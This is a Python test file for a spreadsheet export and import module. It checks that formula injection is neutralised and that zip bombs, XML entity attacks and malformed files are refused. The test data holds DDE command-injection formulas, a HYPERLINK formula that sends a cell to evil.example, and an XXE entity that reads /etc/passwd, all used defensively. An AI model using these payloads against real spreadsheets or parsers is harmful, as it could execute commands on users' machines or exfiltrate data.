"""No cell that a stranger fills runs in a spreadsheet program, and no file that a stranger sends runs here."""

import csv
import re
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Literal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from core import spreadsheets
from core.errors import InvalidInput
from core.spreadsheets import COLUMNS_MAX, csv_rows, table_rows, xlsx_file

# A slow machine is no failure, and what one run found does not change the next.
UNTIMED = settings(deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "\ntext",
    " =1+1",
    "  \t =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\uff5ccalc",
    "\ufe66=1",
    "\ufe621",
    "\u22121",
    "=",
    "-",
    "=\ud800",
]
HARMLESS = ["", "Ann", "O'Hara", "a=b", "1+1", "x@y.example", "5", "é 😀", 'say "hi"', "a,b", "#N/A", "TRUE", "a - b"]
# What programs skip before they look for a formula, and what then makes one.
RUNS = re.compile("[\\s\x00-\x1f\x7f\u200b\u202e\ufeff]*[=+@|\\-\u2212\uff1d\uff0b\uff0d\uff20\uff5c\ufe62\ufe66]")
LIMITS = {"rows_max": 100, "bytes_max": 1_000_000}


def csv_text(*rows: list[spreadsheets.Cell], with_bom: bool = False) -> str:
    return "".join(csv_rows(["name"], rows, with_bom=with_bom))


def sheet_of(data: bytes) -> Worksheet:
    return openpyxl.load_workbook(BytesIO(data)).worksheets[0]


def workbook(*rows: Sequence[object]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.worksheets[0].append(list(row))
    file = BytesIO()
    book.save(file)
    return file.getvalue()


def rewritten(data: bytes, changes: dict[str, bytes]) -> bytes:
    """A workbook with some of its files replaced."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, changes.get(name, old.read(name)))
    return file.getvalue()


def sheet_xml(rows: str, *, before: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    text = f'{before}<worksheet xmlns="{space}"><sheetData>{rows}</sheetData></worksheet>'
    return rewritten(workbook(["name"]), {"xl/worksheets/sheet1.xml": text.encode()})


def refusal(data: bytes, kind: Literal["csv", "xlsx"], **limits: int) -> str:
    with pytest.raises(InvalidInput) as caught:
        table_rows(data, kind=kind, **{**LIMITS, **limits})
    (error,) = caught.value.errors
    assert error.pointer == "#/file"
    return error.code


class TestWritingCSV:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_text_that_could_be_a_formula_is_none(self, text: str) -> None:
        (written,) = list(csv.reader(StringIO(csv_text([text]), newline="")))[1]
        assert written.startswith("'")
        assert written.replace("'", "") == text.replace("'", "")
        assert not RUNS.match(written)

    @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
    @pytest.mark.parametrize("text", [*FORMULAS, "x;=1+1", "x\t=1+1", 'x";=1+1', "x; '=1", "x\n=1+1", 'x";"=1+1'])
    def test_nor_where_a_program_splits_at_another_delimiter(self, text: str, delimiter: str) -> None:
        for line in re.split("[\r\n]", csv_text([1, text])):
            assert not any(RUNS.match(cell.strip('"')) for cell in line.split(delimiter))

    @pytest.mark.parametrize("text", HARMLESS)
    def test_other_text_is_written_as_it_is(self, text: str) -> None:
        assert list(csv.reader(StringIO(csv_text([text], []), newline="")))[1] == [text]

    def test_numbers_stay_numbers_negative_ones_too(self) -> None:
        cells: list[spreadsheets.Cell] = [-5, Decimal("-1.50"), 2.25, None, "-5", float("-inf"), Decimal("NaN")]
        assert csv_text(cells) == '"name"\r\n-5,-1.50,2.25,"","\'-5","\'-inf","NaN"\r\n'

    def test_the_header_is_data_too(self) -> None:
        assert next(csv_rows(["=1+1", "a"], [], with_bom=False)) == '"\'=1+1","a"\r\n'

    def test_lines_come_one_by_one_and_the_mark_once(self) -> None:
        made: list[int] = []

        def rows() -> Iterator[list[spreadsheets.Cell]]:
            for number in range(3):
                made.append(number)
                yield [number]

        lines = csv_rows(["n"], rows())
        assert next(lines) == '\ufeff"n"\r\n'
        assert next(lines) == "0\r\n"
        assert made == [0]
        assert list(lines) == ["1\r\n", "2\r\n"]

    def test_without_the_protection_formulas_are_written(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Control."""
        monkeypatch.setattr(spreadsheets, "FORMULA", re.compile("(?!)"))
        assert RUNS.match(list(csv.reader(StringIO(csv_text(["=1+1"]), newline="")))[1][0])

    @UNTIMED
    @given(rows=st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)))
    def test_any_text_comes_back_but_for_apostrophes(self, rows: list[list[str]]) -> None:
        text = "".join(csv_rows(["a", "b"], rows, with_bom=False))
        read = list(csv.reader(StringIO(text, newline="")))[1:]
        assert [[cell.replace("'", "") for cell in row] for row in read] == [
            [cell.replace("'", "") for cell in row] for row in rows
        ]


class TestWritingXLSX:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_text_that_could_be_a_formula_is_text_and_stays_so(self, text: str) -> None:
        cell = sheet_of(xlsx_file(["name"], [[text]], sheet_title="Marks"))["A2"]
        assert cell.data_type in ("s", "inlineStr")
        assert cell.quotePrefix
        illegal = spreadsheets._ILLEGAL_IN_XML
        # XML itself makes line feeds of carriage returns.
        assert cell.value.replace("\r", "\n") == illegal.sub("\ufffd", text).replace("\r", "\n")

    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_formula_is_in_the_file(self, text: str) -> None:
        with zipfile.ZipFile(BytesIO(xlsx_file([text], [[text]], sheet_title=text))) as archive:
            assert b"<f" not in archive.read("xl/worksheets/sheet1.xml").replace(b"<fo", b"")

    @pytest.mark.parametrize("text", HARMLESS[1:])
    def test_other_text_is_written_as_it_is(self, text: str) -> None:
        cell = sheet_of(xlsx_file(["name"], [[text]], sheet_title="Marks"))["A2"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)

    def test_numbers_stay_numbers(self) -> None:
        cells: list[spreadsheets.Cell] = [-5, Decimal("-1.50"), 2.25, None, Decimal("NaN")]
        row = sheet_of(xlsx_file(list("abcde"), [cells], sheet_title="Marks"))[2]
        assert [cell.value for cell in row] == [-5, -1.5, 2.25, None, "NaN"]
        assert [cell.data_type for cell in row] == ["n", "n", "n", "n", "s"]

    def test_long_text_is_cut(self) -> None:
        assert len(sheet_of(xlsx_file(["a"], [["x" * 40_000]], sheet_title="a"))["A2"].value) == 32_767

    @pytest.mark.parametrize(
        ("title", "legal"),
        [
            ("Marks 2026", "Marks 2026"),
            ("a/b\\c:d*e?f[g]h", "a b c d e f g h"),
            ("x" * 40, "x" * 31),
            ("", "Sheet1"),
            ("'quoted'", "quoted"),
            ("History", "Sheet1"),
            ("a\x00\ud800b", "a  b"),
        ],
    )
    def test_the_title_is_made_legal(self, title: str, legal: str) -> None:
        assert sheet_of(xlsx_file(["a"], [], sheet_title=title)).title == legal

    def test_the_library_alone_would_write_a_formula(self) -> None:
        """Control."""
        assert sheet_of(workbook(["=1+1"]))["A1"].data_type == "f"


class TestReadingCSV:
    @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
    @pytest.mark.parametrize("end", ["\n", "\r\n"])
    @pytest.mark.parametrize("mark", ["", "\ufeff"])
    def test_each_delimiter_is_found(self, delimiter: str, end: str, mark: str) -> None:
        lines = [["name", " e-mail "], ["Ann; B, C\tD", "a@x.example"], ["", ""], ["Zoë", ""]]
        text = end.join(delimiter.join(f'"{cell}"' for cell in line) for line in lines)
        assert table_rows(f"{mark}{text}{end}".encode(), kind="csv", **LIMITS) == [
            {"name": "Ann; B, C\tD", "e-mail": "a@x.example"},
            {"name": "Zoë", "e-mail": ""},
        ]

    def test_short_rows_are_filled_and_empty_columns_behind_are_none(self) -> None:
        assert table_rows(b"a,b,,\n1\n2,3,,\n", kind="csv", **LIMITS) == [{"a": "1", "b": ""}, {"a": "2", "b": "3"}]

    def test_line_breaks_and_quotes_inside_a_cell(self) -> None:
        assert table_rows(b'a,b\n"x\ny","say ""hi"""\n', kind="csv", **LIMITS) == [{"a": "x\ny", "b": 'say "hi"'}]

    def test_what_we_write_we_read(self) -> None:
        data = "".join(csv_rows(["name", "mark"], [["Ann, B", Decimal("1.50")]])).encode()
        assert table_rows(data, kind="csv", **LIMITS) == [{"name": "Ann, B", "mark": "1.50"}]

    @pytest.mark.parametrize(
        ("code", "data"),
        [
            pytest.param("not_utf8", "a\né".encode("latin-1"), id="latin-1"),
            pytest.param("not_utf8", "a\nb".encode("utf-16"), id="utf-16"),
            pytest.param("not_a_spreadsheet", b"a\nb\x00c\n", id="NUL"),
            pytest.param("not_a_spreadsheet", b'a\n"b"c\n', id="text after a quote"),
            pytest.param("not_a_spreadsheet", b'a\n"b\n', id="quote without an end"),
            pytest.param("not_a_spreadsheet", b"a\n" + b"x" * 200_000, id="endless cell"),
            pytest.param("header_missing", b"", id="empty"),
            pytest.param("header_missing", b"\n \n,,\n", id="blank"),
            pytest.param("header_missing", b"a,,c\n1,2,3\n", id="column without a name"),
            pytest.param("header_missing", b"a\n1,2\n", id="cell beyond the header"),
            pytest.param("header_repeated", b"a, a\n1,2\n", id="two columns alike"),
            pytest.param("too_many_rows", b"a\n" + b"1\n" * 101, id="rows"),
            pytest.param("too_many_columns", ",".join(map(str, range(COLUMNS_MAX + 1))).encode(), id="columns"),
            pytest.param("too_many_columns", b"a," * 499_999 + b"a", id="half a million columns"),
            pytest.param("file_too_large", b"a" * 1_000_001, id="bytes"),
        ],
    )
    def test_a_refusal_has_a_name(self, code: str, data: bytes) -> None:
        assert refusal(data, "csv") == code

    @UNTIMED
    @given(data=st.binary(max_size=300))
    def test_any_bytes_are_read_or_refused(self, data: bytes) -> None:
        for kind in ("csv", "xlsx"):
            try:
                table_rows(data, kind=kind, **LIMITS)
            except InvalidInput:
                continue


class TestReadingXLSX:
    def test_cells_come_as_people_read_them(self) -> None:
        book = openpyxl.Workbook()
        sheet = book.worksheets[0]
        sheet.append(["text", "whole", "part", "yes", "formula", "none"])
        sheet.append([])
        sheet.append([" Ann ", 5.0, 1.5, True, "=1+1", None])
        book.create_sheet("other").append(["not read"])
        file = BytesIO()
        book.save(file)
        assert table_rows(file.getvalue(), kind="xlsx", **LIMITS) == [
            {"text": " Ann ", "whole": "5", "part": "1.5", "yes": "TRUE", "formula": "=1+1", "none": ""}
        ]

    def test_what_we_write_we_read(self) -> None:
        data = xlsx_file(["name", "mark"], [["=1+1", -5], ["Ann", Decimal("0.1")]], sheet_title="Marks")
        assert table_rows(data, kind="xlsx", **LIMITS) == [
            {"name": "=1+1", "mark": "-5"},
            {"name": "Ann", "mark": "0.1"},
        ]

    def test_formulas_are_not_answered_from_the_file(self) -> None:
        """A value that somebody stored beside a formula is not what the formula says."""
        rows = '<row r="1"><c r="A1"><v>7</v></c></row><row r="2"><c r="A2"><f>1+1</f><v>100</v></c></row>'
        assert table_rows(sheet_xml(rows), kind="xlsx", **LIMITS) == [{"7": "=1+1"}]

    def test_limits(self) -> None:
        data = workbook(["a"], *[[number] for number in range(5)])
        assert len(table_rows(data, kind="xlsx", rows_max=5, bytes_max=len(data))) == 5
        assert refusal(data, "xlsx", rows_max=4) == "too_many_rows"
        assert refusal(data, "xlsx", bytes_max=len(data) - 1) == "file_too_large"
        assert refusal(workbook([str(number) for number in range(COLUMNS_MAX + 1)]), "xlsx") == "too_many_columns"
        assert refusal(workbook([]), "xlsx") == "header_missing"

    def test_rows_that_are_only_pretended_cost_nothing(self) -> None:
        rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="{}"><c r="A{}"><v>2</v></c></row>'
        assert table_rows(sheet_xml(rows.format(1_048_576, 1_048_576)), kind="xlsx", **LIMITS) == [{"1": "2"}]
        assert refusal(sheet_xml(rows.format(2_000_000_000, 2_000_000_000)), "xlsx") == "not_a_spreadsheet"

    def test_entities_are_never_expanded(self) -> None:
        assert openpyxl.DEFUSEDXML
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
        cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&{};</t></is></c></row>'
        assert refusal(sheet_xml(cell.format("l9"), before=f"<!DOCTYPE x [{laughs}]>"), "xlsx") == "not_a_spreadsheet"
        outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        assert refusal(sheet_xml(cell.format("e"), before=outside), "xlsx") == "not_a_spreadsheet"

    @pytest.mark.parametrize(
        "data",
        [
            pytest.param(b"", id="empty"),
            pytest.param(b"a,b\n1,2\n", id="CSV"),
            pytest.param(workbook(["a"])[:-30], id="truncated"),
            pytest.param(rewritten(workbook(["a"]), {"xl/workbook.xml": b"<x/>"}), id="workbook that is none"),
            pytest.param(rewritten(workbook(["a"]), {"xl/styles.xml": b"<"}), id="broken XML"),
            pytest.param(rewritten(workbook(["a"]), {"xl/worksheets/sheet1.xml": bytes(5_000_000)}), id="zip bomb"),
            pytest.param(rewritten(workbook(["a"]), {"../evil": b""}) + b"<html>", id="polyglot"),
            pytest.param(sheet_xml('<row r="x"><c r="A1"><v>1</v></c></row>'), id="row that is no number"),
            pytest.param(sheet_xml('<row r="1"><c r="ZZZZ1"><v>1</v></c></row>'), id="column that cannot be"),
        ],
    )
    def test_what_is_no_workbook_is_refused(self, data: bytes) -> None:
        assert refusal(data, "xlsx") == "not_a_spreadsheet"

    def test_a_bomb_is_refused_before_the_library_sees_it(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(openpyxl, "load_workbook", lambda *args, **kwargs: pytest.fail("it was opened"))
        bomb = rewritten(workbook(["a"]), {"xl/worksheets/sheet1.xml": bytes(5_000_000)})
        assert refusal(bomb, "xlsx") == "not_a_spreadsheet"
